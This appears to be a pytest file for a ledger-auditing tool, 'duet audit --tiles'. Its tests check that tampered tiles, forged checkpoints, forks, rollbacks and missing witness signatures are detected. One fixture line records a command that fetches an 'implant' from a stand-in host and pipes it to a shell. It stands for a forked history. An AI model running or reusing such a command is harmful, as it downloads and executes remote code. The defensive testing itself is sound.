"""``duet audit --tiles``: the same audit, read from the controller's published tiles alone
(issue 13, item 5).

The bucket is in memory (tiles_fakes.py), made from the same ledgers the controller-like fakes
serve, so the two audits can be set side by side: same entries checked, same root, same
findings, same timeline. And the controller is never asked anything: its fake records every
request.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from ledger_fakes import CVM, KEY, OTHER_CVM, EntryLedger, FakeSource, lawful
from synthetic_ledger import KEY as SKEY
from synthetic_ledger import SyntheticLedger, SyntheticSource
from tiles_fakes import MemoryTiles, Witness, checkpoint_note, publish

from duet.client.audit import Auditor, AuditResult, HeadStore
from duet.client.audit_checkpoint import CheckpointStore
from duet.client.audit_witness import NoteHead
from duet.protocol import lifecycle as lc


def codes(result: AuditResult) -> list[str]:
    return [f.code for f in result.findings]


def bucket_of(ledger: EntryLedger, size: int | None = None, **options: Any) -> MemoryTiles:
    return MemoryTiles(
        publish(ledger.tree, lambda seq: ledger.entries[seq], ledger.size if size is None else size, KEY, **options)
    )


def synthetic_bucket(ledger: SyntheticLedger, files: dict[str, bytes] | None = None) -> MemoryTiles:
    return MemoryTiles(publish(ledger.tree, ledger.entry, ledger.size, SKEY, files=files))


def same_audit(result: AuditResult) -> dict[str, Any]:
    """What must be equal between an audit from the controller and one from its tiles."""
    assert result.head is not None
    data = result.to_json()
    return {
        "size": result.head.tree_size,
        "root": result.head.root_hash,
        "checked": result.checked,
        "start": result.start,
        "findings": data["findings"],
        "timeline": data["timeline"],
    }


def flip(data: bytes, at: int) -> bytes:
    return data[:at] + bytes([data[at] ^ 1]) + data[at + 1 :]


def forked() -> tuple[EntryLedger, EntryLedger]:
    ours = lawful()
    theirs = ours.prefix(5)
    theirs.run(command="curl -s http://operator.example/implant | sh")
    theirs.mark(lc.IN_UPDATE, lc.IN_SERVICE)
    while theirs.size < ours.size:
        theirs.add(None, lc.CONTROLLER_STARTED, resumed_from=theirs.size)
    return ours, theirs


# --- the same audit ---------------------------------------------------------------------------------


def test_an_audit_from_the_tiles_equals_an_audit_from_the_controller_and_asks_it_nothing(tmp_path: Path) -> None:
    ledger = SyntheticLedger(3000, cvms=5)
    source = SyntheticSource(ledger)
    from_controller = Auditor(source, HeadStore(tmp_path / "a")).audit()
    source.requests.clear()

    bucket = synthetic_bucket(ledger)
    from_tiles = Auditor(source, HeadStore(tmp_path / "b"), tiles=bucket).audit()

    assert from_controller.ok and from_tiles.ok, from_tiles.findings
    assert same_audit(from_tiles) == same_audit(from_controller)
    assert from_tiles.checked == 3000 and from_tiles.read_from == "tiles" and from_tiles.url == "memory://bucket"
    assert isinstance(from_tiles.head, NoteHead) and from_tiles.head.note.encode() == bucket.files["checkpoint"]
    assert not source.requests  # the controller was not asked anything
    data = from_tiles.to_json()
    assert data["read_from"] == "tiles" and data["head"]["checkpoint"].startswith("duet.controller/")


def test_one_cvm_from_the_tiles_equals_its_audit_from_the_controller(tmp_path: Path) -> None:
    ledger = lawful()
    lawful(ledger, OTHER_CVM)
    ledger.provision("c3" * 32)
    ledger.ready("c3" * 32)
    for cvm in (CVM, OTHER_CVM):
        from_controller = Auditor(FakeSource(ledger), HeadStore(tmp_path / "a"), cvm=cvm).audit()
        source = FakeSource(ledger)
        from_tiles = Auditor(source, HeadStore(tmp_path / "b"), cvm=cvm, tiles=bucket_of(ledger)).audit()
        assert from_tiles.ok and same_audit(from_tiles) == same_audit(from_controller)
        assert {row["cvm"] for row in from_tiles.to_json()["timeline"]} == {cvm} and not source.requests


def test_a_rule_broken_is_found_the_same_from_the_tiles(tmp_path: Path) -> None:
    ledger = lawful()
    ledger.run()  # a command in a stopped CVM
    from_controller = Auditor(FakeSource(ledger), HeadStore(tmp_path / "a")).audit()
    from_tiles = Auditor(FakeSource(ledger), HeadStore(tmp_path / "b"), tiles=bucket_of(ledger)).audit()
    assert not from_tiles.ok and codes(from_tiles) == codes(from_controller) != []
    assert same_audit(from_tiles) == same_audit(from_controller)


def test_evidence_and_outputs_are_said_not_checked_not_found(tmp_path: Path) -> None:
    ledger = EntryLedger()
    ledger.owners("o" * 64)
    ledger.provision(actor="o" * 64)
    ledger.ready()
    ledger.add(CVM, lc.CVM_ATTESTED, ok=True, evidence_sha256="ab" * 32, valid_until="2030-01-01T00:00:00Z")
    ledger.run(actor="o" * 64)
    from_controller = Auditor(FakeSource(ledger, owners=("o" * 64,)), HeadStore(tmp_path / "a"), long=True).audit()
    assert codes(from_controller) == ["evidence_missing", "output_missing", "output_missing"]  # the fake has no blob

    result = Auditor(
        FakeSource(ledger, owners=("o" * 64,)), HeadStore(tmp_path / "b"), long=True, tiles=bucket_of(ledger)
    ).audit()
    assert result.ok and result.not_checked == {"evidence": 1, "outputs": 2}
    assert "not checked" in result.notes[-1] and result.to_json()["not_checked"] == {"evidence": 1, "outputs": 2}


# --- incremental ------------------------------------------------------------------------------------


def test_a_second_audit_from_the_tiles_reads_only_the_new_bundles(tmp_path: Path) -> None:
    ledger = SyntheticLedger(3000, cvms=4)
    source = SyntheticSource(ledger)
    files = synthetic_bucket(ledger).files
    first = Auditor(source, HeadStore(tmp_path), tiles=MemoryTiles(files)).audit()
    assert first.ok and first.resumed is None
    tiles_checkpoint = CheckpointStore(tmp_path, kind="tiles").path(first.controller)
    assert tiles_checkpoint.exists() and not CheckpointStore(tmp_path).path(first.controller).exists()

    ledger.grow(700)
    bucket = synthetic_bucket(ledger, files)
    second = Auditor(source, HeadStore(tmp_path), tiles=bucket).audit()
    assert second.ok, second.findings
    assert second.resumed is not None and second.resumed.tree_size == 3000 and second.start == 3000
    assert second.checked == 700 and [e["seq"] for e in second.entries] == list(range(3000, 3700))
    bundles = [path for path in bucket.reads if path.startswith("tile/entries/")]
    assert bundles == ["tile/entries/011", "tile/entries/012", "tile/entries/013", "tile/entries/014.p/116"]
    assert json.loads(tiles_checkpoint.read_text())["head"]["tree_size"] == 3700
    assert not source.requests

    again = Auditor(source, HeadStore(tmp_path), tiles=bucket, from_start=True).audit()
    assert again.ok and again.checked == 3700 and again.resumed is None


def test_follow_rounds_read_the_new_checkpoint_and_only_the_new_entries(tmp_path: Path) -> None:
    ledger = SyntheticLedger(800, cvms=2)
    files = synthetic_bucket(ledger).files
    bucket = MemoryTiles(files)
    auditor = Auditor(SyntheticSource(ledger), HeadStore(tmp_path), tiles=bucket)
    assert auditor.audit().ok
    assert auditor.follow().checked == 0  # nothing published since
    ledger.grow(300)
    synthetic_bucket(ledger, files)
    bucket.reads.clear()
    result = auditor.follow()
    assert result.ok and result.start == 800 and result.checked == 300
    assert "tile/entries/000" not in bucket.reads and "tile/entries/003" in bucket.reads
    assert json.loads(CheckpointStore(tmp_path, kind="tiles").path(result.controller).read_text())["head"]["tree_size"] == 1100


def test_the_controller_audit_and_the_tiles_audit_keep_their_own_checkpoints(tmp_path: Path) -> None:
    ledger = SyntheticLedger(1000, cvms=2)
    source = SyntheticSource(ledger)
    assert Auditor(source, HeadStore(tmp_path)).audit().ok
    tiles = Auditor(source, HeadStore(tmp_path), tiles=synthetic_bucket(ledger)).audit()
    assert tiles.ok and tiles.resumed is None and tiles.checked == 1000  # not gone on from the controller's
    store = HeadStore(tmp_path)
    assert store.last(tiles.controller) is not None and store.of_kind("tiles").last(tiles.controller) == tiles.head
    assert tiles.comparisons[0]["consistent"] and tiles.comparisons[0]["relation"] == "same"


def test_the_cvm_roots_do_not_matter_to_a_tiles_checkpoint(tmp_path: Path) -> None:
    """A tiles audit checks no evidence, so trusting other roots does not cost a full audit."""
    from cryptography.hazmat.primitives.asymmetric import ec

    from duet.attestation.bundle import CvmRoots

    ledger = SyntheticLedger(600, cvms=2)
    source = SyntheticSource(ledger)
    roots = CvmRoots(intel=[ec.generate_private_key(ec.SECP256R1()).public_key()])
    assert Auditor(source, HeadStore(tmp_path), tiles=synthetic_bucket(ledger), cvm_roots=roots).audit().ok
    ledger.grow(10)
    again = Auditor(source, HeadStore(tmp_path), tiles=synthetic_bucket(ledger)).audit()
    assert again.ok and again.resumed is not None and again.checked == 10


# --- what the bucket cannot hide ------------------------------------------------------------------


def test_an_altered_hash_tile_is_a_finding_naming_it(tmp_path: Path) -> None:
    ledger = SyntheticLedger(3000, cvms=3)
    bucket = synthetic_bucket(ledger)
    bucket.files["tile/0/003"] = flip(bucket.files["tile/0/003"], 100)
    result = Auditor(SyntheticSource(ledger), HeadStore(tmp_path), tiles=bucket).audit()
    assert codes(result) == ["tile_mismatch"] and result.findings[0].path == "tile/0/003"
    assert "tile/0/003" in result.findings[0].message and result.to_json()["findings"][0]["path"] == "tile/0/003"
    assert not CheckpointStore(tmp_path, kind="tiles").path(result.controller).exists()
    assert result.checked <= 768  # none of the entries after the altered tile is taken


def test_an_altered_entry_bundle_names_the_bundle_and_the_entry(tmp_path: Path) -> None:
    ledger = SyntheticLedger(1500, cvms=3)
    bucket = synthetic_bucket(ledger)
    bundle = bucket.files["tile/entries/002"]
    bucket.files["tile/entries/002"] = bundle.replace(b"echo step", b"echo stop", 1)
    result = Auditor(SyntheticSource(ledger), HeadStore(tmp_path), tiles=bucket).audit()
    assert codes(result) == ["entry_mismatch"]
    finding = result.findings[0]
    assert finding.path == "tile/entries/002" and finding.seq is not None and 512 <= finding.seq < 768


def test_an_altered_right_edge_or_checkpoint_is_a_finding(tmp_path: Path) -> None:
    ledger = SyntheticLedger(700, cvms=2)
    bucket = synthetic_bucket(ledger)
    edge = "tile/0/002.p/188"
    bucket.files[edge] = flip(bucket.files[edge], 5)
    result = Auditor(SyntheticSource(ledger), HeadStore(tmp_path / "a"), tiles=bucket).audit()
    assert codes(result) == ["tiles_root_mismatch"] and edge in result.findings[0].message

    bucket = synthetic_bucket(ledger)
    bucket.files["checkpoint"] = bucket.files["checkpoint"].replace(b"\n700\n", b"\n699\n")
    result = Auditor(SyntheticSource(ledger), HeadStore(tmp_path / "b"), tiles=bucket).audit()
    assert codes(result) == ["bad_note_signature"] and result.head is None
    assert "not one the pinned controller signed" in result.findings[0].message


def test_a_rolled_back_or_forked_bucket_is_reported(tmp_path: Path) -> None:
    ours, theirs = forked()
    assert ours.size == theirs.size
    seen = Auditor(FakeSource(ours), HeadStore(tmp_path), tiles=bucket_of(ours)).audit()
    assert seen.ok

    older = Auditor(FakeSource(ours), HeadStore(tmp_path), tiles=bucket_of(ours, 6)).audit()
    assert codes(older) == ["ledger_shrank"] and "published log" in older.findings[0].message

    fork = Auditor(FakeSource(ours), HeadStore(tmp_path), tiles=bucket_of(theirs)).audit()
    assert codes(fork) == ["fork"]
    evidence = json.loads(Path(fork.evidence or "").read_text())
    assert {evidence["earlier_head"]["root_hash"], evidence["later_head"]["root_hash"]} == {
        ours.head()["root_hash"],
        theirs.head()["root_hash"],
    }
    theirs.add(None, lc.CONTROLLER_STARTED, resumed_from=theirs.size)
    assert codes(Auditor(FakeSource(ours), HeadStore(tmp_path), tiles=bucket_of(theirs)).audit()) == ["inconsistent_head"]
    assert HeadStore(tmp_path).of_kind("tiles").last(seen.controller) == seen.head  # none of them was adopted


def test_a_controller_showing_its_api_one_history_and_its_bucket_another_is_caught(tmp_path: Path) -> None:
    """The two kinds of heads are kept apart, and held to each other: both ways."""
    ours, theirs = forked()
    assert Auditor(FakeSource(ours), HeadStore(tmp_path / "a")).audit().ok
    result = Auditor(FakeSource(ours), HeadStore(tmp_path / "a"), tiles=bucket_of(theirs)).audit()
    assert codes(result) == ["fork"] and result.comparisons[0]["source"].startswith("the last head you verified from")

    assert Auditor(FakeSource(ours), HeadStore(tmp_path / "b"), tiles=bucket_of(theirs)).audit().ok
    result = Auditor(FakeSource(ours), HeadStore(tmp_path / "b")).audit()
    assert codes(result) == ["fork"] and "published tiles" in result.comparisons[0]["source"]


def test_a_bucket_behind_the_controller_is_said_and_one_ahead_is_proven(tmp_path: Path) -> None:
    ledger = lawful()
    assert Auditor(FakeSource(ledger), HeadStore(tmp_path)).audit().ok
    behind = Auditor(FakeSource(ledger), HeadStore(tmp_path), tiles=bucket_of(ledger, 7)).audit()
    assert behind.ok and "behind the head" in behind.notes[-1] and behind.comparisons == []

    ledger.add(None, lc.CONTROLLER_STARTED, resumed_from=ledger.size)
    ahead = Auditor(FakeSource(ledger), HeadStore(tmp_path), tiles=bucket_of(ledger)).audit()
    assert ahead.ok and ahead.comparisons[0]["relation"] == "prefix"
    assert ahead.comparisons[0]["proven_by"] == "the published log"


# --- witnesses ----------------------------------------------------------------------------------------


def test_the_published_checkpoint_is_held_to_the_witness_policy(tmp_path: Path) -> None:
    ledger = lawful()
    one, two = Witness("witness.example/w1"), Witness("witness.example/w2")
    policy = [one.vkey, two.vkey]
    bucket = bucket_of(ledger, witnesses=[one, two])
    result = Auditor(FakeSource(ledger), HeadStore(tmp_path / "a"), tiles=bucket, witnesses=policy).audit()
    assert result.ok and result.witnesses is not None
    assert result.witnesses["signed_by"] == [one.name, two.name] and result.witnesses["missing"] == []

    bucket = bucket_of(ledger, witnesses=[two])
    result = Auditor(FakeSource(ledger), HeadStore(tmp_path / "b"), tiles=bucket, witnesses=policy).audit()
    assert codes(result) == ["witness_quorum_not_met"] and result.entries == []
    assert result.witnesses is not None and result.witnesses["missing"] == [one.name]
    assert one.name in result.findings[0].message
    assert HeadStore(tmp_path / "b").of_kind("tiles").last(result.controller) is None  # not adopted

    result = Auditor(FakeSource(ledger), HeadStore(tmp_path / "b"), tiles=bucket, witnesses=policy, witness_quorum=1).audit()
    assert result.ok and result.witnesses is not None and result.witnesses["signed_by"] == [two.name]
    assert any("split view" in note for note in result.notes)


def test_a_checkpoint_signed_by_another_key_is_refused(tmp_path: Path) -> None:
    from duet import keys

    ledger = lawful()
    bucket = bucket_of(ledger)
    bucket.files["checkpoint"] = checkpoint_note(ledger.tree, ledger.size, keys.generate("ed25519"))
    result = Auditor(FakeSource(ledger), HeadStore(tmp_path), tiles=bucket).audit()
    assert not result.ok and result.head is None and codes(result)[0] in ("wrong_origin", "note_not_signed")


@pytest.mark.parametrize("scheme", ["", "file://", "http://127.0.0.1:9/"])
def test_a_bucket_that_cannot_be_read_is_an_error_not_a_verdict(tmp_path: Path, scheme: str) -> None:
    from duet.client.tiles_source import TilesUnavailable

    url = f"{scheme}{tmp_path / 'nowhere'}" if scheme != "http://127.0.0.1:9/" else f"{scheme}bucket"
    auditor = Auditor(FakeSource(lawful()), HeadStore(tmp_path), tiles=url)
    with pytest.raises(TilesUnavailable):
        auditor.audit()
    auditor.close()


# --- the command ---------------------------------------------------------------------------------


def test_the_command_audits_a_directory_with_the_pinned_key_and_never_the_controller(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from dataclasses import replace

    from typer.testing import CliRunner

    from duet.cli.context import CliContext
    from duet.cli.main import app
    from duet.client.trust import TrustStore

    ledger = lawful()
    bucket = tmp_path / "bucket"
    for path, data in bucket_of(ledger).files.items():
        (bucket / path).parent.mkdir(parents=True, exist_ok=True)
        (bucket / path).write_bytes(data)

    def no_client(self: CliContext, owner: bool = False) -> Any:
        raise AssertionError("duet audit --tiles made a client for the controller")

    monkeypatch.setattr(CliContext, "client", no_client)
    home = tmp_path / "home"
    args = ["--url", FakeSource.url, "--json", "audit", "--tiles", str(bucket)]
    done = CliRunner().invoke(app, args, env={"DUET_HOME": str(home)})
    assert done.exit_code == 3 and json.loads(done.stdout)["error"]["code"] == "not_pinned"

    TrustStore(home).put(FakeSource.url, replace(FakeSource(ledger).pin(), verified_at="2026-12-01T00:00:00Z"))
    done = CliRunner().invoke(app, args, env={"DUET_HOME": str(home)})
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert done.exit_code == 0 and report["ok"] and report["read_from"] == "tiles", done.output
    assert report["head"]["tree_size"] == ledger.size and report["checked"] == ledger.size
    assert "WITHOUT attestation" in done.stderr

    done = CliRunner().invoke(
        app, args[:2] + ["audit", "--tiles", str(bucket), "--from-start"], env={"DUET_HOME": str(home), "COLUMNS": "250"}
    )
    out = " ".join(done.stdout.split())
    assert done.exit_code == 0 and "its log as published at" in out and "each proven by the published tiles" in out

    (bucket / "tile/entries/000.p/13").write_bytes(flip((bucket / "tile/entries/000.p/13").read_bytes(), 40))
    done = CliRunner().invoke(app, [*args, "--from-start"], env={"DUET_HOME": str(home)})
    report = json.loads(done.stdout.strip().splitlines()[-1])
    assert done.exit_code == 3 and [(f["code"], f["path"]) for f in report["findings"]] == [
        ("entry_mismatch", "tile/entries/000.p/13")
    ]
